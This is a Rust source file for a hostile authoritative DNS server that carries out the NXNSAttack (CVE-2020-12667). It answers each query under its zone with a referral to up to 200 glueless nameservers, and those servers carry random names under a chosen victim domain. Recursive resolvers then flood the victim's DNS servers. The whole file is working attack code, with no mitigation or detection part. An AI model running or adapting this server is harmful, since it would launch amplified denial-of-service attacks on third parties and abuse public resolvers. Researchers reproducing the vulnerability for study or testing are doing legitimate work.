//! The server of a zone that makes resolvers hammer somebody else (NXNSAttack, CVE-2020-12667): each name below it is referred to many
//! servers without addresses, all named below the victim, and never the same ones.

use std::error::Error;
use std::net::UdpSocket;

use crate::random::{LABEL_LEN, Random, fill, write_name};

const SERVERS_MAX: usize = 200;
const QUERY_LEN_MAX: usize = 4096;
const NS: [u8; 2] = [0, 2];
const TTL_S: u32 = 3600;

pub fn run(address: &str, zone: &str, count: &str, victim: &str) -> Result<(), Box<dyn Error>> {
    let socket = UdpSocket::bind((address, 53))?;
    let count = count.parse::<usize>()?.min(SERVERS_MAX);
    let mut apex = Vec::new();
    write_name(&mut apex, zone)?;
    let mut random = Random::new(53);
    let mut query = [0; QUERY_LEN_MAX];
    loop {
        let (len, client) = socket.recv_from(&mut query)?;
        if let Some(answer) = answer(&query[..len], &apex, count, victim, &mut random) {
            let _ = socket.send_to(&answer, client);
        }
    }
}

/// A referral of the name below the apex, or the zone's SOA; `None` for what is no question about this zone.
fn answer(
    query: &[u8],
    apex: &[u8],
    count: usize,
    victim: &str,
    random: &mut Random,
) -> Option<Vec<u8>> {
    let starts = labels(query)?;
    let (&root, name) = starts.split_last()?;
    let question = query.get(12..root + 5)?;
    let mut answer = query[..2].to_vec();
    // QR, and AA where it is no referral.
    let below = (starts.len() - 1).checked_sub(label_count(apex))?;
    if !query[12..=root][starts[below] - 12..].eq_ignore_ascii_case(apex) {
        return None;
    }
    answer.extend([if below == 0 { 0x84 } else { 0x80 }, 0, 0, 1, 0, 0]);
    if below == 0 {
        answer.extend([0, 1, 0, 0]);
        answer.extend(question);
        soa(&mut answer);
        return Some(answer);
    }
    answer.extend((count as u16).to_be_bytes());
    answer.extend([0, 0]);
    answer.extend(question);
    let owner = 0xC000 | u16::try_from(name[below - 1]).ok()?;
    let mut target: Option<u16> = None;
    for _ in 0..count {
        answer.extend(owner.to_be_bytes());
        answer.extend(NS);
        answer.extend([0, 1]);
        answer.extend(TTL_S.to_be_bytes());
        let length_at = answer.len();
        answer.extend([0, 0]);
        let name_at = answer.len();
        match target {
            Some(target) => {
                let places = write_name(&mut answer, "%").ok()?;
                answer.pop();
                answer.extend((0xC000 | target).to_be_bytes());
                fill(&mut answer, &places, random);
            }
            None => {
                let places = write_name(&mut answer, &format!("%.{victim}")).ok()?;
                fill(&mut answer, &places, random);
                target = u16::try_from(name_at + 1 + LABEL_LEN).ok();
            }
        }
        let length = (answer.len() - name_at) as u16;
        answer[length_at..length_at + 2].copy_from_slice(&length.to_be_bytes());
    }
    Some(answer)
}

/// A SOA of the name in the question, with short times.
fn soa(answer: &mut Vec<u8>) {
    answer.extend([0xC0, 12, 0, 6, 0, 1, 0, 0, 0, 60, 0, 24, 0xC0, 12, 0xC0, 12]);
    for number in [1_u32, 3600, 600, 86400, 60] {
        answer.extend(number.to_be_bytes());
    }
}

/// Where the labels of the question's name begin, the root's included.
fn labels(query: &[u8]) -> Option<Vec<usize>> {
    let (mut at, mut starts) = (12, Vec::new());
    loop {
        starts.push(at);
        match usize::from(*query.get(at)?) {
            0 => return (query.len() >= at + 5).then_some(starts),
            length @ 1..64 => at += 1 + length,
            _ => return None,
        }
    }
}

fn label_count(wire: &[u8]) -> usize {
    let (mut at, mut count) = (0, 0);
    while wire[at] != 0 {
        at += 1 + usize::from(wire[at]);
        count += 1;
    }
    count
}
